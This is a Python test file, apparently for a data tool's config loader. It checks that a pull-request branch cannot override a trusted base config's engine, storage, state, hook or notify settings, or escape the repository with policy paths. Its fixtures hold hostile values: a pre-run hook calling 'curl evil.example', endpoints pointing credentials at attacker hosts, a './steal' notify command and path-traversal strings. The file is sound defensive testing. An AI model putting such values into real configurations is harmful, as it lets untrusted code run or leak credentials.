"""What the configuration of a branch may decide before it is merged."""

from __future__ import annotations

from pathlib import Path

import pytest

from tablectl.attributes.policy import SECRET_KEYS
from tablectl.model.errors import InputError
from tablectl.policies.read_config import combined, ignored, ignored_keys, load_config

BASE = "engine: {catalog: lake}\nstores: {gs: {user_agent: lake}}\nreports: {mask: ['*token*']}\npolicies: policies\n"


@pytest.fixture
def files(tmp_path: Path) -> Path:
    (tmp_path / "base.yaml").write_text(BASE)
    return tmp_path


def environ(files: Path) -> dict[str, str]:
    return {"TABLECTL_BASE_CONFIG": str(files / "base.yaml")}


HOSTILE = {
    "engine": "{remote: 'sc://evil:1'}",
    "stores": "{gs: {base_url: 'https://evil.example'}}",
    "window": "{before: [[curl, evil.example]]}",
    "state": "s3://evil/leases",
    "catalogs": "{lake: {type: unity, url: 'https://evil.example'}}",
}


@pytest.mark.parametrize("key", HOSTILE)
@pytest.mark.parametrize("env", ["", "prod"])
def test_what_runs_code_or_directs_credentials_is_that_of_the_base(files: Path, key: str, env: str) -> None:
    line = f"{key}: {HOSTILE[key]}\n"
    (files / "tablectl.yaml").write_text(f"env: {{prod: {{{line.strip()}}}}}\n" if env else line)
    ours = load_config(files, environ(files), env)
    (files / "tablectl.yaml").write_text("env: {prod: {}}\n")
    assert ours == load_config(files, environ(files), env) or not env
    assert (ours.engine.remote, dict(ours.stores.gs), ours.window.before, ours.state) == (
        None,
        {"user_agent": "lake"},
        (),
        None,
    )
    assert ours.engine.catalog == "lake"


def test_policies_variables_and_lint_are_those_of_the_branch(files: Path) -> None:
    (files / "tablectl.yaml").write_text("policies: mine\nvariables: {A: b}\nlint: {L001: warning}\n")
    config = load_config(files, environ(files))
    assert (config.policies, config.variables, list(config.lint)) == ("mine", {"A": "b"}, ["L001"])
    assert ignored_keys(files, environ(files)) == ("engine", "reports", "stores")
    assert ignored_keys(files, {}) == ()


@pytest.mark.parametrize("path", ["/proc/self", "../elsewhere", "a/../../b", "C:\\secrets"])
def test_policies_of_a_branch_stay_inside_the_repository(files: Path, path: str) -> None:
    (files / "tablectl.yaml").write_text(f"policies: '{path}'\n")
    assert load_config(files, environ(files)).policies == "policies"


def test_a_branch_adds_masks_and_takes_none_away(files: Path) -> None:
    (files / "tablectl.yaml").write_text("reports: {mask: ['*password*']}\n")
    assert load_config(files, environ(files)).reports.mask == ("*token*", "*password*")


def test_what_is_wrong_in_a_key_that_does_not_count_is_wrong_too(files: Path) -> None:
    (files / "tablectl.yaml").write_text("engine: {dialekt: oss}\n")
    with pytest.raises(InputError, match=r"tablectl\.yaml:1:10: .*dialekt"):
        load_config(files, environ(files))


def test_a_base_that_is_not_there_is_an_error(files: Path) -> None:
    with pytest.raises(InputError, match="TABLECTL_BASE_CONFIG names"):
        load_config(files, {"TABLECTL_BASE_CONFIG": str(files / "none.yaml")})


def test_environments_are_those_of_the_branch_with_the_keys_of_the_base() -> None:
    base = {"env": {"prod": {"engine": {"remote": "sc://ours"}}, "old": {}}}
    branch = {"env": {"prod": {"variables": {"A": "b"}, "state": "s3://x/y"}, "new": {"state": "s3://x/y"}}}
    assert combined(branch, base) == {
        "env": {"prod": {"variables": {"A": "b"}, "engine": {"remote": "sc://ours"}}, "new": {}}
    }
    assert ignored(branch, base) == ("env.prod.engine", "env.prod.state", "env.new.state")


JOBS = {
    "GitHub": {"GITHUB_EVENT_NAME": "pull_request"},
    "GitHub, of a fork": {"GITHUB_EVENT_NAME": "pull_request_target"},
    "GitHub's merge queue": {"GITHUB_EVENT_NAME": "merge_group"},
    "GitLab": {"CI_MERGE_REQUEST_IID": "5"},
    "Jenkins": {"CHANGE_ID": "5"},
    "Bitbucket": {"BITBUCKET_PR_ID": "5"},
    "Azure Pipelines": {"BUILD_REASON": "PullRequest"},
    "CircleCI": {"CIRCLE_PULL_REQUEST": "https://github.example/acme/lake/pull/5"},
    "Buildkite": {"BUILDKITE_PULL_REQUEST": "5"},
}


@pytest.mark.parametrize("job", JOBS)
@pytest.mark.parametrize("key", [*HOSTILE, "notify", "cache"])
def test_a_job_of_a_pull_request_knows_which_keys_the_branch_must_not_decide(files: Path, job: str, key: str) -> None:
    given = {"notify": "[{command: [./steal]}]", "cache": "."}
    (files / "tablectl.yaml").write_text(f"{key}: {(HOSTILE | given)[key]}\npolicies: mine\nlint: {{L001: warning}}\n")
    assert load_config(files, JOBS[job]).unmerged == (key,)
    assert load_config(files, JOBS[job] | environ(files)).unmerged == ()
    assert load_config(files, {}).unmerged == ()


@pytest.mark.parametrize(
    "merged", [{"GITHUB_EVENT_NAME": "push"}, {"BUILD_REASON": "IndividualCI"}, {"BUILDKITE_PULL_REQUEST": "false"}]
)
def test_a_job_of_a_merged_branch_decides_by_itself(files: Path, merged: dict[str, str]) -> None:
    (files / "tablectl.yaml").write_text("engine: {catalog: lake}\n")
    assert load_config(files, merged).unmerged == ()


def test_policies_of_a_pull_request_stay_inside_the_repository_without_a_base(files: Path) -> None:
    (files / "tablectl.yaml").write_text("policies: ../elsewhere\n")
    config = load_config(files, JOBS["Jenkins"])
    assert (config.unmerged, config.confined_to) == (("policies",), str(files))


@pytest.mark.parametrize("base", ["", "reports: {}\n", "env: {prod: {}}\n"])
@pytest.mark.parametrize(
    "mine", ["reports: {mask: [x]}\n", "reports: {mask: []}\n", "env: {prod: {reports: {mask: [x]}}}\n"]
)
def test_a_branch_does_not_replace_the_default_masks(tmp_path: Path, base: str, mine: str) -> None:
    """The attacker lists one mask of his own, so that those that hold without a list no longer do."""
    (tmp_path / "base.yaml").write_text(base)
    (tmp_path / "tablectl.yaml").write_text(f"{mine}{'' if 'prod' in mine else 'env: {prod: {}}'}\n")
    for env in ("", "prod"):
        masks = load_config(tmp_path, environ(tmp_path), env).reports.mask
        assert masks[: len(SECRET_KEYS)] == SECRET_KEYS


def test_a_branch_does_not_replace_the_masks_of_the_top_in_an_environment(files: Path) -> None:
    (files / "tablectl.yaml").write_text("env: {prod: {reports: {mask: ['x']}}}\n")
    assert load_config(files, environ(files), "prod").reports.mask == ("*token*", "x")
